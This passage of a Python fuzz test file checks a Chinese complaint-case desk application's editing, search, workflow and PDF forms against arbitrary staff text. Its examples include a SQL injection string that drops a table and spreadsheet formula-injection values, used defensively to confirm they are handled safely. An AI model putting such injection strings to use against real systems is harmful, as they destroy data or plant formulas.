            assert counts(desk.store) == rows, "a refused edit left rows behind"
            return
        assert not refused, f"edit stored although {refused} must be refused"
        assert result is not None
        after = desk.case(before.id)
        for column in FIELD_LABELS:
            want = expected[column] if column in changes else getattr(before, column)
            if column == "customer_phone" and want is None:
                check_phone_shape(after.customer_phone)
            else:
                assert getattr(after, column) == want, column
        event = desk.store.events(before.id)[-1]
        assert event.kind == "edit" and event.note == (expected["note"] or "修改登记信息")
        assert case_problems(desk.store, before.id) == []
        search_case_ids(desk.store, f"{after.brand_model} {after.description[:200]}")  # no error

    run()
    desks.finish()
    assert payloads >= EDIT_EXAMPLES
    assert desks.neutralised > 0, "no formula-looking text reached the CSV"


# -------------------------------------------------------------- searching


def test_search_copes_with_any_text(tmp_path: Path) -> None:
    """Whatever is typed into the search box (or stored) is searched without error."""
    desks = Desks(tmp_path)  # stores shared across examples (see Desks and the module doc)
    payloads = 0

    @fuzz_settings(SEARCH_EXAMPLES)
    @given(text=texts, query=texts)
    @example(text="\U00020bb7野家 \U0001f468\u200d\U0001f469\u200d\U0001f467", query="\U00020bb7")
    @example(text="'; DROP TABLE cases; --", query="'; DROP TABLE cases; --")
    @example(text="张伟", query="\ud800")
    def run(text: str, query: str) -> None:
        nonlocal payloads
        payloads += 1
        desk = desks.next()
        case = check_registration(desk, with_texts(description=text), "description")
        ids = {row[0] for row in desk.store.query("SELECT id FROM cases")}
        for typed, voided in ((query, False), (query, True), (text, False)):
            assert set(search_case_ids(desk.store, typed, include_voided=voided)) <= ids
        word = "" if case is None else case.description
        if (
            len(word) >= 3
            and word.isascii()
            and word.isalnum()
            and not word.lower().startswith("ts")
        ):
            # A plain word of three or more characters finds its case (shorter
            # letter-only terms are taken as pinyin initials of the name).
            assert case is not None and case.id in search_case_ids(desk.store, word)

    run()
    desks.finish()
    assert payloads >= SEARCH_EXAMPLES


# --------------------------------------------------------------- workflow


@dataclass(frozen=True)
class Said:
    """A fuzzed free text for one argument of an operation."""

    raw: str
    label: str
    limit: int = 5000
    required: bool = False
    fallback: str = "已处理"


def attempt(
    desk: Desk, case_id: int, call: Callable[..., T], **said: Said
) -> tuple[T, dict[str, str]]:
    """Call with the fuzzed texts: accepted as promised, or refused leaving no
    trace, after which the refused texts are replaced by their fallback so the
    walk goes on. Returns the result and the text each argument now holds."""
    expected = {
        name: text_outcome(s.raw, s.label, s.limit, required=s.required) for name, s in said.items()
    }
    refused = [v.label for v in expected.values() if isinstance(v, Refused)]
    row, rows = case_row(desk.store, case_id), counts(desk.store)
    result, error = outcome_of(lambda: call(**{name: s.raw for name, s in said.items()}))
    if error is None:
        assert not refused, f"accepted although {refused} must be refused"
        assert result is not None
        return result, {name: str(value) for name, value in expected.items()}
    assert refused, f"valid text was refused: {error.message!r}"
    check_refusal(error, refused, [s.raw for s in said.values()])
    assert case_row(desk.store, case_id) == row, "a refusal changed the case"
    assert counts(desk.store) == rows, "a refusal left rows behind"
    held = {
        name: said[name].fallback if isinstance(value, Refused) else str(value)
        for name, value in expected.items()
    }
    return call(**{name: held[name] for name in said}), held


ReviewDraft = tuple[list[tuple[str, bool, str]], str]


def review_with(desk: Desk, case_id: int, review: ReviewDraft) -> Case:
    """复核 with fuzzed items, remarks and open problems (refusals checked, then fallbacks)."""
    raw_items, problems = review
    items = [
        (
            text_outcome(item, "复核项目", 100, required=True),
            passed,
            text_outcome(remark, "说明", 500),
        )
        for item, passed, remark in raw_items
    ]
    passed = all(p for _, p, _ in items)
    left = text_outcome(problems, "遗留问题", 5000)
    if not passed and left == "":
        left = Refused("遗留问题")  # a failed review must say what is left to do
    refused = [v.label for i in items for v in i if isinstance(v, Refused)]
    refused += [left.label] if isinstance(left, Refused) else []
    reviewer = desk.as_("陈静")

    def call(entries: list[tuple[str, bool, str]], open_problems: str) -> op.CaseChange:
        return op.review_case(
            reviewer,
            case_id,
            items=[ReviewItem(i, p, r) for i, p, r in entries],
            passed=passed,
            open_problems=open_problems,
        )

    if refused:
        row, rows = case_row(desk.store, case_id), counts(desk.store)
        _, error = outcome_of(lambda: call(raw_items, problems))
        assert error is not None, f"review stored although {refused} must be refused"
        echoed = [problems, *(t for i, _, r in raw_items for t in (i, r))]
        check_refusal(error, refused, echoed)
        assert case_row(desk.store, case_id) == row and counts(desk.store) == rows
    fixed = [
        (
            "门板闭合" if isinstance(i, Refused) else i,
            p,
            "" if isinstance(r, Refused) else r,
        )
        for i, p, r in items
    ]
    stored_left = "铰链仍松动" if isinstance(left, Refused) else left
    sent = (fixed, stored_left) if refused else (raw_items, problems)
    after = call(*sent).after
    saved = desk.store.reviews(case_id)[-1]
    assert saved.items == tuple(ReviewItem(i, p, r) for i, p, r in fixed)
    assert saved.open_problems == stored_left and saved.passed == passed
    return after


WALK_TEXTS = (
    "notes",
    "cause",
    "invalid_reason",
    "invalid_explanation",
    "reopen_invalid",
    "validity",
    "steps",
    "cause_again",
    "done",
    "outstanding",
    "rejected",
    "words",
    "next",
    "result",
    "follow_words",
    "follow_next",
    "closing_cause",
    "closing_actions",
    "closing_improvement",
    "note",
    "reopen",
    "escalate",
    "void",
)
reviews: st.SearchStrategy[ReviewDraft] = st.tuples(
    st.lists(st.tuples(texts, st.booleans(), texts), min_size=1, max_size=3), texts
)


@dataclass(frozen=True)
class Walk:
    said: dict[str, str]
    review: ReviewDraft
    invalid_first: bool


walks = st.builds(
    Walk,
    st.fixed_dictionaries(dict.fromkeys(WALK_TEXTS, texts)),
    reviews,
    st.booleans(),
)


def last_event(desk: Desk, case_id: int) -> tuple[str, str]:
    event = desk.store.events(case_id)[-1]
    return event.kind, event.note


def test_workflow_free_text(tmp_path: Path) -> None:
    """A fuzzed case walked from registration to voided, every free text fuzzed on the way."""
    desks = Desks(tmp_path)  # stores shared across examples (see Desks and the module doc)
    payloads = 0

    @fuzz_settings(WORKFLOW_EXAMPLES)
    @given(payload=single_field_intakes(OTHER_FIELDS), walk=walks)
    def run(payload: tuple[str, Intake], walk: Walk) -> None:
        nonlocal payloads
        payloads += 1
        desk = desks.next()
        field, intake = payload
        case = check_registration(desk, replace(intake, on_spot=None), field) or desk.register()
        cid = case.id
        s = walk.said
        clerk, owner, manager = desk.as_("王芳"), desk.as_("李强"), desk.as_("陈静")
        op.assign(clerk, cid, owner_id=desk.staff["李强"].id, department="安装部")

        _, held = attempt(
            desk,
            cid,
            lambda notes, cause_analysis: op.investigate(
                owner, cid, notes=notes, cause_analysis=cause_analysis
            ),
            notes=Said(s["notes"], "调查记录"),
            cause_analysis=Said(s["cause"], "原因分析"),
        )
        case = desk.case(cid)
        assert (case.investigation_notes, case.cause_analysis) == (
            held["notes"],
            held["cause_analysis"],
        )

        if walk.invalid_first:
            _, held = attempt(
                desk,
                cid,
                lambda reason, explanation: op.judge_invalid(
                    owner, cid, reason=reason, explanation=explanation
                ),
                reason=Said(s["invalid_reason"], "不成立的理由", required=True),
                explanation=Said(s["invalid_explanation"], "对客户的解释", required=True),
            )
            case = desk.case(cid)
            assert case.stage == Stage.INVALID
            assert (case.validity_reason, case.invalid_explanation) == (
                held["reason"],
                held["explanation"],
            )
            _, held = attempt(
                desk,
                cid,
                lambda reason: op.reopen_case(manager, cid, reason),
                reason=Said(s["reopen_invalid"], "重新打开的理由", 500, required=True),
            )
            assert desk.case(cid).stage == Stage.INVESTIGATING
            assert last_event(desk, cid) == ("reopen", f"重新打开：{held['reason']}")

        _, held = attempt(
            desk,
            cid,
            lambda validity_reason, steps, cause_analysis: op.propose_solution(
                owner,
                cid,
                validity_reason=validity_reason,
                kind=SolutionKind.REPAIR,
                steps=steps,
                due_date=RECEIVED_DAY + dt.timedelta(days=2),
                cost_fen=0,
                cause_analysis=cause_analysis,
            ),
            validity_reason=Said(s["validity"], "投诉成立的理由", required=True),
            steps=Said(s["steps"], "处理步骤", required=True),
            cause_analysis=Said(s["cause_again"], "原因分析"),
        )
        case = desk.case(cid)
        assert case.stage == Stage.IN_PROGRESS
        assert (case.validity_reason, case.solution_steps, case.cause_analysis) == (
            held["validity_reason"],
            held["steps"],
            held["cause_analysis"],
        )

        _, held = attempt(
            desk,
            cid,
            lambda done, outstanding: op.report_progress(
                owner, cid, done=done, outstanding=outstanding
            ),
            done=Said(s["done"], "已完成事项", required=True),
            outstanding=Said(s["outstanding"], "未完成事项"),
        )
        progress = f"进度反馈：已完成 {held['done']}"
        progress += f"；未完成 {held['outstanding']}" if held["outstanding"] else ""
        assert last_event(desk, cid) == ("progress", progress)

        _, held = attempt(
            desk,
            cid,
            lambda words: op.reject_solution(owner, cid, words),
            words=Said(s["rejected"], "客户的意见", 1000, required=True),
        )
        kind, text = last_event(desk, cid)
        assert kind == "reject_solution" and text.startswith(f"客户不接受方案：{held['words']}，")

        def fuzzed_call(purpose: ContactPurpose, words: str, then: str, **extra: Any) -> None:
            """A reached call with fuzzed words and next action, kept as cleaned."""
            _, held = attempt(
                desk,
                cid,
                lambda customer_words, next_action: op.record_contact(
                    clerk,
                    cid,
                    method=ContactMethod.PHONE,
                    purpose=purpose,
                    reached=True,
                    customer_words=customer_words,
                    next_action=next_action,
                    **extra,
                ),
                customer_words=Said(words, "客户原话"),
                next_action=Said(then, "下一步", 500),
            )
            contact = desk.store.contacts(cid)[-1]
            assert (contact.customer_words, contact.next_action) == (
                held["customer_words"],
                held["next_action"],
            )

        fuzzed_call(ContactPurpose.PROGRESS, s["words"], s["next"])

        _, held = attempt(
            desk,
            cid,
            lambda result: op.record_rectification(owner, cid, result=result),
            result=Said(s["result"], "整改结果", required=True),
        )
        assert desk.case(cid).rectification_result == held["result"]

        case = review_with(desk, cid, walk.review)
        if case.stage == Stage.IN_PROGRESS:  # not passed: handled again the same day
            op.record_rectification(owner, cid, result="已再次调整")
            op.review_case(manager, cid, items=[ReviewItem("复查", True)], passed=True)
        assert desk.case(cid).stage == Stage.FOLLOW_UP

        fuzzed_call(ContactPurpose.FOLLOW_UP, s["follow_words"], s["follow_next"], satisfaction=4)

        _, held = attempt(
            desk,
            cid,
            lambda cause, actions, improvement: op.close_case(
                owner,
                cid,
                cause=cause,
                actions=actions,
                improvement=improvement,
                cause_key="其他",
            ),
            cause=Said(s["closing_cause"], "问题原因", required=True),
            actions=Said(s["closing_actions"], "处理经过", required=True),
            improvement=Said(s["closing_improvement"], "改进措施", required=True),
        )
        case = desk.case(cid)
        assert case.stage == Stage.CLOSED
        assert (case.closing_cause, case.closing_actions, case.closing_improvement) == (
            held["cause"],
            held["actions"],
            held["improvement"],
        )

        _, held = attempt(
            desk,
            cid,
            lambda text: op.add_note(clerk, cid, text),
            text=Said(s["note"], "备注", required=True),
        )
        assert last_event(desk, cid) == ("note", held["text"])

        _, held = attempt(
            desk,
            cid,
            lambda reason: op.reopen_case(manager, cid, reason),
            reason=Said(s["reopen"], "重新打开的理由", 500, required=True),
        )
        assert last_event(desk, cid) == ("reopen", f"重新打开：{held['reason']}")
        assert desk.case(cid).stage == Stage.IN_PROGRESS

        _, held = attempt(
            desk,
            cid,
            lambda reason: op.escalate(manager, cid, reason),
            reason=Said(s["escalate"], "升级理由", 500, required=True),
        )
        kind, text = last_event(desk, cid)
        assert kind == "escalate" and text.startswith(f"手动升级：{held['reason']}，")

        _, held = attempt(
            desk,
            cid,
            lambda reason: op.void_case(manager, cid, reason),
            reason=Said(s["void"], "作废理由", 500, required=True),
        )
        case = desk.case(cid)
        assert case.stage == Stage.VOIDED and case.void_reason == held["reason"]
        assert last_event(desk, cid) == ("void", f"作废：{held['reason']}")
        assert case_problems(desk.store, cid) == []
        for text in (held["reason"], case.solution_steps[:300], case.closing_cause[:300]):
            search_case_ids(desk.store, text, include_voided=True)  # must not raise

    run()
    desks.finish()
    assert payloads >= WORKFLOW_EXAMPLES


# ------------------------------------------------------------ paper forms


def fitted(intake: Intake) -> Intake:
    """The intake with every free text the form would refuse put back to the default."""
    kept = {}
    for column, raw in intake.texts.items():
        limit, required = TEXT_FIELDS[column]
        refused = isinstance(text_outcome(raw, "", limit, required=required), Refused)
        kept[column] = DEFAULT_TEXTS[column] if refused else raw
    return replace(intake, texts=kept)


def check_pdf(data: bytes, case: Case) -> int:
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) >= 1
    assert case.case_no in reader.pages[0].extract_text()
    return len(reader.pages)


def test_forms_print_fuzzed_cases(tmp_path: Path) -> None:
    """Long and hostile stored texts print on both paper forms."""
    desks = Desks(tmp_path)  # stores shared across examples (see Desks and the module doc)
    payloads = 0

    @fuzz_settings(PDF_EXAMPLES)
    @given(
        fields=st.fixed_dictionaries(dict.fromkeys(TEXT_FIELDS, long_biased_texts)),
        phone=phones,
        steps=long_biased_texts,
        result=long_biased_texts,
        review=st.tuples(
            st.lists(
                st.tuples(long_biased_texts, st.booleans(), long_biased_texts),
                min_size=1,
                max_size=8,
            ),
            long_biased_texts,
        ),
    )
    @example(
        fields={
            **DEFAULT_TEXTS,
            "description": "W" * 5000,
            "customer_address": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 70,
            "brand_model": "\U00020bb7" * 100,
            "demand_note": "<b>&nbsp;</b>" * 38,
        },
        phone=LANDLINES[4],
        steps="行\n" * 300,
        result="\u202e" + "\u0301" * 4999,
        review=([("=1+1", False, "@SUM(A1)" * 62)], "好\n" * 300),
    )
    def run(
        fields: dict[str, str], phone: PhoneCase, steps: str, result: str, review: ReviewDraft
    ) -> None:
        nonlocal payloads
        payloads += 1
        desk = desks.next()
        intake = fitted(replace(PLAIN, texts=fields, phone=phone))
        case = check_registration(desk, intake) or desk.register(**fitted(intake).texts)
        cid = case.id
        note(f"registered {case.case_no}")
        registration = pdf.render(desk.store, case, "registration", now=START)
        check_pdf(registration, case)
        owner = desk.as_("李强")
        op.assign(desk.as_("王芳"), cid, owner_id=desk.staff["李强"].id, department="安装部")
        attempt(
            desk,
            cid,
            lambda steps: op.propose_solution(
                owner,
                cid,
                validity_reason="现场核实",
                kind=SolutionKind.REPAIR,
                steps=steps,
                due_date=RECEIVED_DAY,
                cost_fen=0,
            ),
            steps=Said(steps, "处理步骤", required=True),
        )
        attempt(
            desk,
            cid,
            lambda result: op.record_rectification(owner, cid, result=result),
            result=Said(result, "整改结果", required=True),
        )
        review_with(desk, cid, review)
        form = pdf.render(desk.store, desk.case(cid), "review", review_round=1, now=START)
        check_pdf(form, case)

    run()
    desks.finish()
    assert payloads >= PDF_EXAMPLES
